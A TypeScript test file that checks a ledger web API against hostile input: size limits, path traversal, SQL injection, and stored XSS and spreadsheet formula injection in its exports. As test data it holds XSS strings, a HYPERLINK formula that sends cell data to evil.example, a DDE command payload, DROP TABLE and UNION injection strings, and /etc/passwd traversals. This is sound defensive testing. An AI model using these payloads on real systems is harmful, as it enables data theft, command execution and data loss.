/**
 * Hostile input aimed at what it would hurt (issue #7): size limits on bodies and uploads, path
 * traversal on every route that serves or stores a file (checked on the disk), SQL injection
 * on every filter of the list routes (checked against the literal search and the tables'
 * row counts), and stored XSS / formula injection in every text field an officer or a
 * coordinator writes, read back from the ledger workbook, the closure report PDF and the case
 * file's CSVs. The fuzz test (fuzz.test.ts) covers the rest of the input space at random.
 */
import { randomBytes } from 'node:crypto';
import { readdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { dirname, join, relative } from 'node:path';

import { toIsoDate } from '@ledger/domain/calendar';
import { inspectionRound, problemCategory, timeLimitType } from '@ledger/domain/vocabulary';
import { pdfText, squash } from '@ledger/documents/testing-pdf';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { InjectOptions } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { hushuItems, multipartForm, png } from './evidence-fixtures';
import { loginAs, useTestApp } from './helpers';
import { unzipParts } from './import-workbooks';

/** Small, so that crossing it costs the test little. */
const EVIDENCE_MAX_BYTES = 64 * 1024;
const BODY_LIMIT = 1_048_576;
const hasChinese = (text: string) => /\p{Script=Han}/u.test(text);

/** What an attacker stores, hoping a browser, a spreadsheet or a PDF reader runs it. */
const XSS = {
  script: '<script>alert(1)</script>',
  image: '<img src=x onerror=alert(1)>',
  link: 'javascript:alert(document.cookie)',
  hyperlink: '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
  dde: "=cmd|' /C calc'!A0",
  plus: '+1+cmd|x',
  minus: '-2+3',
  at: '@SUM(1+1)',
};
const FORMULA_START = /^[=+\-@\t\r]/;

const SQL_PAYLOADS = [
  "' OR 1=1 --",
  `'; DROP TABLE "LedgerItem"; --`,
  '$$',
  '\\',
  '1\' UNION SELECT * FROM "User" --',
];
/** Traversal as a path segment, sent without further encoding. */
const TRAVERSALS = [
  '..%2f..%2f..%2fetc%2fpasswd',
  '%2e%2e%2f%2e%2e%2fcanary.txt',
  '..%5c..%5ccanary.txt',
  '%2fetc%2fpasswd',
  'C%3a%5cWindows%5cwin.ini',
  'x%00.png',
  '....%2f%2f....%2f%2fcanary.txt',
];

describe('hostile input', () => {
  const context = useTestApp({ seed: true, evidenceMaxBytes: EVIDENCE_MAX_BYTES });
  const sessions: Record<string, string> = {};
  const as = (username: string, options: InjectOptions) =>
    context.app.inject({ ...options, headers: { ...options.headers, cookie: sessions[username] } });
  let items: Awaited<ReturnType<typeof hushuItems>>;
  /** a file beside the storage folder that no request may read or change */
  let canary: { path: string; content: string };

  beforeAll(async () => {
    for (const username of ['officer.hushu', 'coordinator', 'auditor', 'admin']) {
      sessions[username] = (await loginAs(context, username)).cookie;
    }
    items = await hushuItems(context.db.prisma);
    canary = {
      path: join(dirname(context.evidenceDir), `canary-${randomBytes(4).toString('hex')}.txt`),
      content: `canary ${randomBytes(16).toString('hex')}`,
    };
    await writeFile(canary.path, canary.content);
  });

  afterAll(async () => {
    if (canary) await rm(canary.path, { force: true });
  });

  /** Every file under the evidence folder, relative to it. */
  async function storedFiles(dir = context.evidenceDir): Promise<string[]> {
    const found: string[] = [];
    for (const entry of await readdir(dir, { withFileTypes: true })) {
      const path = join(dir, entry.name);
      if (entry.isDirectory()) found.push(...(await storedFiles(path)));
      else found.push(relative(context.evidenceDir, path));
    }
    return found;
  }

  const upload = (
    itemId: string,
    fields: Record<string, string>,
    files: Parameters<typeof multipartForm>[1],
  ) => {
    const form = multipartForm(fields, files);
    return as('officer.hushu', {
      method: 'POST',
      url: `/api/items/${itemId}/evidence`,
      headers: form.headers,
      payload: form.payload,
    });
  };

  function expectRefusal(response: { statusCode: number; body: string }, status?: number) {
    if (status) expect(response.statusCode, response.body.slice(0, 300)).toBe(status);
    else {
      expect(response.statusCode, response.body.slice(0, 300)).toBeGreaterThanOrEqual(400);
      expect(response.statusCode, response.body.slice(0, 300)).toBeLessThan(500);
    }
    const { message } = JSON.parse(response.body) as { message: string };
    expect(hasChinese(message), message).toBe(true);
    return message;
  }

  // ───────────── size limits ─────────────

  describe('size limits', () => {
    it('refuses a JSON body over 1 MiB with 413 in Chinese, before it reaches the route', async () => {
      const before = await context.db.prisma.ledgerItem.count();
      const response = await as('coordinator', {
        method: 'POST',
        url: '/api/items',
        headers: { 'content-type': 'application/json' },
        payload: JSON.stringify({ kind: 'TASK', title: 'x'.repeat(BODY_LIMIT) }),
      });
      expect(expectRefusal(response, 413)).toContain('1 MiB');
      expect(await context.db.prisma.ledgerItem.count()).toBe(before);
    });

    it('refuses an evidence file over its limit with 413 naming the limit, and keeps nothing of it', async () => {
      const response = await upload(items.open.id, { provesDate: toIsoDate(context.app.ledgerToday()) }, [
        { name: '大照片.png', content: Buffer.concat([png, Buffer.alloc(EVIDENCE_MAX_BYTES)]) },
      ]);
      expect(expectRefusal(response, 413)).toMatch(/上限/);
      expect(response.json<{ maxBytes: number }>().maxBytes).toBe(EVIDENCE_MAX_BYTES);
      expect((await storedFiles()).filter((file) => file.startsWith('tmp/'))).toEqual([]);
    });

    it('refuses an import workbook over its limit with 413 naming the limit', async () => {
      const { IMPORT_MAX_BYTES } = await import('@ledger/domain/imports');
      const form = multipartForm({}, [{ name: '台账.xlsx', content: Buffer.alloc(IMPORT_MAX_BYTES + 1) }]);
      const response = await as('coordinator', {
        method: 'POST',
        url: '/api/imports',
        headers: form.headers,
        payload: form.payload,
      });
      expect(expectRefusal(response, 413)).toMatch(/20 ?MB|20 ?MiB|20971520/);
    });

    it('refuses two files, or too many fields, in one upload with a 4xx', async () => {
      const twoFiles = await upload(items.open.id, { provesDate: toIsoDate(context.app.ledgerToday()) }, [
        { name: 'a.png', content: png },
        { name: 'b.png', content: png },
      ]);
      expectRefusal(twoFiles);
      const manyFields = Object.fromEntries(Array.from({ length: 40 }, (_, index) => [`field${index}`, 'x']));
      expectRefusal(await upload(items.open.id, manyFields, [{ name: 'a.png', content: png }]));
      const twoWorkbooks = multipartForm({}, [
        { name: 'a.xlsx', content: png },
        { name: 'b.xlsx', content: png },
      ]);
      expectRefusal(
        await as('coordinator', {
          method: 'POST',
          url: '/api/imports',
          headers: twoWorkbooks.headers,
          payload: twoWorkbooks.payload,
        }),
      );
    });
  });

  // ───────────── text the database cannot store ─────────────

  describe('text the database cannot store', () => {
    it('refuses half a surrogate pair in any JSON string or key with 400 naming the field', async () => {
      // Found by the fuzz test: PostgreSQL refuses "\udfff" in the login attempt's audit record (jsonb).
      const login = await context.app.inject({
        method: 'POST',
        url: '/api/auth/login',
        headers: { 'content-type': 'application/json' },
        payload: '{"username":"\\udfff\\ud800","password":"x"}',
      });
      expect(expectRefusal(login, 400)).toContain('body.username');
      const before = await context.db.prisma.ledgerItem.count();
      const item = await as('coordinator', {
        method: 'POST',
        url: '/api/items',
        headers: { 'content-type': 'application/json' },
        payload: JSON.stringify(itemInput('SURROGATE-1', '标题')).replace('"整改措施"', '"整改\\ud800措施"'),
      });
      expect(expectRefusal(item, 400)).toContain('body.task.measures.0');
      const key = await as('coordinator', {
        method: 'POST',
        url: '/api/items',
        headers: { 'content-type': 'application/json' },
        payload: '{"\\udc00":1}',
      });
      expectRefusal(key, 400);
      expect(await context.db.prisma.ledgerItem.count()).toBe(before);
      // A whole pair (an emoji) is text like any other.
      const emoji = await as('coordinator', {
        method: 'POST',
        url: '/api/items',
        payload: itemInput('EMOJI-1', '标题 😀'),
      });
      expect(emoji.statusCode, emoji.body).toBe(201);
    });
  });

  // ───────────── path traversal ─────────────

  describe('path traversal', () => {
    it('answers traversal in the id of every file route with a 4xx and reads nothing outside storage', async () => {
      const evidence = await upload(items.open.id, { provesDate: toIsoDate(context.app.ledgerToday()) }, [
        { name: '现场.png', content: png },
      ]);
      expect(evidence.statusCode, evidence.body).toBe(201);
      const evidenceId = evidence.json<{ id: string }>().id;
      const fileRoutes = [
        (id: string) => `/api/items/${items.open.id}/evidence/${id}`,
        (id: string) => `/api/items/${id}/evidence/${evidenceId}`,
        (id: string) => `/api/items/${id}/closure-report.pdf`,
        (id: string) => `/api/items/${id}/case-file.zip`,
        (id: string) => `/api/exports/jobs/${id}/download`,
        (id: string) => `/api/bulletins/${id}/pdf`,
        (id: string) => `/api/bulletins/${id}/xlsx`,
        (id: string) => `/api/imports/${id}`,
        (id: string) => `/api/public/evidence/${id}`,
      ];
      for (const route of fileRoutes) {
        for (const traversal of TRAVERSALS) {
          for (const username of ['coordinator', 'officer.hushu']) {
            const response = await as(username, { method: 'GET', url: route(traversal) });
            expectRefusal(response);
            expect(response.body).not.toContain(canary.content);
            expect(response.body).not.toContain('root:');
          }
        }
      }
    });

    it('stores uploads under their content hash whatever they are called, and never writes outside storage', async () => {
      const names = [
        '../../../../canary.txt',
        '..\\..\\canary.png',
        '/etc/passwd.png',
        '%2e%2e%2fx.png',
        'a\u0000b.png',
        `${'../'.repeat(40)}deep.png`,
      ];
      for (const [index, name] of names.entries()) {
        const content = Buffer.concat([png, Buffer.from(`${index}`)]);
        const response = await upload(items.open.id, { provesDate: toIsoDate(context.app.ledgerToday()) }, [
          { name, content },
        ]);
        expect(response.statusCode, response.body).toBe(201);
        const stored = response.json<{ fileName: string }>().fileName;
        // Only the last segment is kept, and no control character.
        expect(stored).not.toMatch(/[/\\]|\p{Cc}/u);
        expect(stored).not.toBe('..');
        const download = await as('officer.hushu', {
          method: 'GET',
          url: response.json<{ url: string }>().url,
        });
        expect(download.rawPayload.equals(content)).toBe(true);
      }
      expect(await readFile(canary.path, 'utf8')).toBe(canary.content);
      for (const file of await storedFiles())
        expect(file).toMatch(/^sha256\/[0-9a-f]{2}\/[0-9a-f]{2}\/[0-9a-f]{64}$/);
      // The folder beside storage holds the canary and nothing the uploads made.
      const beside = await readdir(dirname(context.evidenceDir));
      expect(
        beside.filter(
          (name) => /canary\.(png|txt)|passwd|deep\.png/.test(name) && !canary.path.endsWith(name),
        ),
      ).toEqual([]);
      await expect(stat('/etc/passwd.png')).rejects.toThrow();
    });

    it('names the case file’s entries without a way out of the folder they are unpacked into', async () => {
      const response = await as('coordinator', {
        method: 'GET',
        url: `/api/items/${items.open.id}/case-file.zip`,
      });
      expect(response.statusCode, response.body.slice(0, 300)).toBe(200);
      // yauzl itself refuses absolute and `..` entry names; check them anyway.
      const entries = await unzipParts(response.rawPayload);
      expect(entries.length).toBeGreaterThan(3);
      for (const { name } of entries) {
        expect(name).not.toMatch(/(^|[/\\])\.\.([/\\]|$)|^[/\\]|^[A-Za-z]:|\\|\p{Cc}/u);
      }
    });
  });

  // ───────────── SQL injection ─────────────

  describe('SQL injection', () => {
    const tables = ['LedgerItem', 'User', 'Unit', 'AuditLog', 'Session'] as const;
    const rowCounts = async () => {
      const counts: Record<string, number> = {};
      for (const table of tables) {
        const [row] = await context.db.prisma.$queryRawUnsafe<{ count: number }[]>(
          `SELECT count(*)::int AS count FROM "${table}"`,
        );
        counts[table] = row!.count;
      }
      return counts;
    };
    /** The records of a list answer (whatever its key). */
    const recordsOf = (body: Record<string, unknown>) =>
      (Object.values(body).find(Array.isArray) as unknown[] | undefined) ?? [];

    it('searches the ledger for each payload as text: it finds exactly the item that holds it', async () => {
      const created: { id: string; title: string }[] = [];
      for (const [index, payload] of SQL_PAYLOADS.entries()) {
        const response = await as('coordinator', {
          method: 'POST',
          url: '/api/items',
          payload: itemInput(`SQL-${index}`, `注入测试 ${payload}`),
        });
        expect(response.statusCode, response.body).toBe(201);
        created.push({ id: response.json<{ id: string }>().id, title: `注入测试 ${payload}` });
      }
      const before = await rowCounts();
      for (const payload of SQL_PAYLOADS) {
        const response = await as('coordinator', {
          method: 'GET',
          url: `/api/items?q=${encodeURIComponent(payload)}&pageSize=200`,
        });
        expect(response.statusCode, response.body).toBe(200);
        const found = response
          .json<{ items: { id: string }[] }>()
          .items.map((item) => item.id)
          .sort();
        expect(found, payload).toEqual(
          created
            .filter((item) => item.title.includes(payload))
            .map((item) => item.id)
            .sort(),
        );
      }
      expect(await rowCounts()).toEqual(before);
    });

    it('answers every filter of every list route with 400 or the literal search’s result, tables intact', async () => {
      const document = (
        context.app as unknown as {
          swagger(): {
            paths: Record<string, Record<string, { parameters?: { in: string; name: string }[] }>>;
          };
        }
      ).swagger();
      const lists = Object.entries(document.paths).flatMap(([path, operations]) => {
        const parameters = (operations.get?.parameters ?? []).filter((parameter) => parameter.in === 'query');
        // The workbook export takes the ledger list's own query (GET /api/items, checked here)
        // and starts a process for each answer: it is left to the fuzz test.
        return !path.includes('{') && path !== '/api/exports/ledger.xlsx' && parameters.length > 0
          ? [{ path, names: parameters.map((parameter) => parameter.name) }]
          : [];
      });
      expect(lists.map((list) => list.path)).toEqual(
        expect.arrayContaining([
          '/api/items',
          '/api/audit',
          '/api/users',
          '/api/supervision-notices',
          '/api/public/tasks',
        ]),
      );
      const before = await rowCounts();
      let literalAnswers = 0;
      for (const { path, names } of lists) {
        // The first account that may read the list.
        let reader: string | undefined;
        for (const username of ['coordinator', 'admin', 'auditor']) {
          if ((await as(username, { method: 'GET', url: path })).statusCode === 200) {
            reader = username;
            break;
          }
        }
        expect(reader, path).toBeDefined();
        for (const name of names) {
          for (const payload of SQL_PAYLOADS) {
            const response = await as(reader!, {
              method: 'GET',
              url: `${path}?${name}=${encodeURIComponent(payload)}`,
            });
            if (response.statusCode === 200) {
              literalAnswers += 1;
              // Searched as text, a payload finds only records that hold it (the items made
              // above), never "everything" as `OR 1=1` would.
              const literal = JSON.stringify(payload).slice(1, -1);
              for (const record of recordsOf(response.json())) {
                expect(JSON.stringify(record), `${path}?${name}=${payload}`).toContain(literal);
              }
            } else {
              expectRefusal(response, 400);
            }
          }
        }
      }
      expect(literalAnswers).toBeGreaterThan(0);
      const after = await rowCounts();
      // Reading the audit log is audited itself: only that table may have grown.
      expect({ ...after, AuditLog: 0 }).toEqual({ ...before, AuditLog: 0 });
      expect(after.AuditLog).toBeGreaterThanOrEqual(before.AuditLog!);
    });
  });

  // ───────────── stored XSS and formula injection ─────────────

  describe('stored XSS and formula injection', () => {
    let itemId: string;
    const number = 'XSS-001';

    beforeAll(async () => {
      const today = toIsoDate(context.app.ledgerToday());
      const created = await as('coordinator', {
        method: 'POST',
        url: '/api/items',
        payload: {
          ...itemInput(number, `${XSS.script}${XSS.image}`),
          leadLeaderName: XSS.at,
          responsiblePersonName: XSS.minus,
          task: {
            inspectionRound: inspectionRound.codes[0],
            feedbackText: XSS.hyperlink,
            category: problemCategory.codes[0],
            target: XSS.dde,
            measures: [XSS.plus, XSS.link, XSS.image],
            closureStandard: XSS.script,
          },
        },
      });
      expect(created.statusCode, created.body).toBe(201);
      itemId = created.json<{ id: string }>().id;
      const progress = await as('officer.hushu', {
        method: 'POST',
        url: `/api/items/${itemId}/progress`,
        payload: { reportedOn: today, content: `${XSS.hyperlink}\n${XSS.script}`, percent: 40 },
      });
      expect(progress.statusCode, progress.body).toBe(201);
      const evidence = await upload(itemId, { provesDate: today, description: XSS.dde }, [
        { name: '@SUM(1).png', content: Buffer.concat([png, Buffer.from('xss')]) },
      ]);
      expect(evidence.statusCode, evidence.body).toBe(201);
      const notice = await as('coordinator', {
        method: 'POST',
        url: `/api/items/${itemId}/supervision-notices`,
        payload: {
          level: 'YELLOW',
          reason: XSS.image,
          responseDueOn: toIsoDate(new Date(context.app.ledgerToday().getTime() + 7 * 86_400_000)),
        },
      });
      expect(notice.statusCode, notice.body).toBeLessThan(300);
      const answered = await as('officer.hushu', {
        method: 'POST',
        url: `/api/supervision-notices/${notice.json<{ id: string }>().id}/respond`,
        payload: { responseText: XSS.hyperlink },
      });
      expect(answered.statusCode, answered.body).toBeLessThan(300);
    });

    it('keeps the text as it was typed: the API answers JSON, the markup is the browser’s to escape', async () => {
      const response = await as('coordinator', { method: 'GET', url: `/api/items/${itemId}` });
      expect(response.statusCode).toBe(200);
      expect(response.headers['content-type']).toMatch(/^application\/json/);
      expect(response.body).toContain(JSON.stringify(XSS.script).slice(1, -1));
      const unit = await as('admin', {
        method: 'POST',
        url: '/api/units',
        payload: { code: 'xss-unit', name: XSS.image, type: 'STREET' },
      });
      expect(unit.statusCode, unit.body).toBe(201);
      expect(unit.json<{ unit: { name: string } }>().unit.name).toBe(XSS.image);
    });

    it('writes the ledger workbook with text cells only: no formula, no formula-like text left bare', async () => {
      const response = await as('coordinator', {
        method: 'GET',
        url: `/api/exports/ledger.xlsx?q=${number}`,
      });
      expect(response.statusCode, response.body.slice(0, 300)).toBe(200);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
      const texts: string[] = [];
      workbook.eachSheet((sheet) =>
        sheet.eachRow((row) =>
          row.eachCell((cell) => {
            expect(cell.type, `${sheet.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
            expect(cell.formula, `${sheet.name}!${cell.address}`).toBeFalsy();
            expect(cell.hyperlink, `${sheet.name}!${cell.address}`).toBeFalsy();
            if (typeof cell.value === 'string') texts.push(cell.value);
          }),
        ),
      );
      for (const text of texts) expect(text, 'a cell a spreadsheet would run').not.toMatch(FORMULA_START);
      const all = texts.join('\n');
      for (const payload of [
        XSS.script,
        XSS.image,
        XSS.link,
        XSS.hyperlink,
        XSS.dde,
        XSS.plus,
        XSS.minus,
        XSS.at,
      ]) {
        expect(all, payload).toContain(payload);
      }
      // A whole cell that was formula-like reads back as the text with Excel's apostrophe.
      expect(texts).toContain(`'${XSS.hyperlink}`);
      expect(texts).toContain(`'${XSS.dde}`);
    });

    it('prints the payloads literally in the closure report', async () => {
      const response = await as('coordinator', {
        method: 'GET',
        url: `/api/items/${itemId}/closure-report.pdf`,
      });
      expect(response.statusCode, response.body.slice(0, 300)).toBe(200);
      const text = squash(await pdfText(response.rawPayload, 'raw'));
      for (const payload of [XSS.script, XSS.image, XSS.hyperlink, XSS.dde])
        expect(text, payload).toContain(squash(payload));
    });

    it('neutralises formula-like fields in the case file’s CSVs and keeps the payloads in them', async () => {
      const response = await as('coordinator', { method: 'GET', url: `/api/items/${itemId}/case-file.zip` });
      expect(response.statusCode, response.body.slice(0, 300)).toBe(200);
      const entries = await unzipParts(response.rawPayload);
      const csvs = entries.filter((entry) => entry.name.endsWith('.csv'));
      expect(csvs.length).toBeGreaterThanOrEqual(2);
      let all = '';
      for (const { name, data } of csvs) {
        const rows = parse(data, { bom: true, relax_column_count: true }) as string[][];
        for (const field of rows.flat()) expect(field, name).not.toMatch(FORMULA_START);
        all += data.toString('utf8');
      }
      expect(all).toContain(XSS.dde);
      expect(all).toContain("'@SUM(1).png");
    });
  });

  /** A task of 湖墅街道 as the coordinator registers it. */
  function itemInput(itemNumber: string, title: string) {
    return {
      kind: 'TASK',
      number: itemNumber,
      title,
      leadUnitId: items.unitId,
      deadline: toIsoDate(new Date(context.app.ledgerToday().getTime() + 90 * 86_400_000)),
      timeLimitType: timeLimitType.codes[0],
      isPublic: true,
      task: {
        inspectionRound: inspectionRound.codes[0],
        feedbackText: '反馈问题',
        category: problemCategory.codes[0],
        target: '整改目标',
        measures: ['整改措施'],
        closureStandard: '销号标准',
      },
    };
  }
});
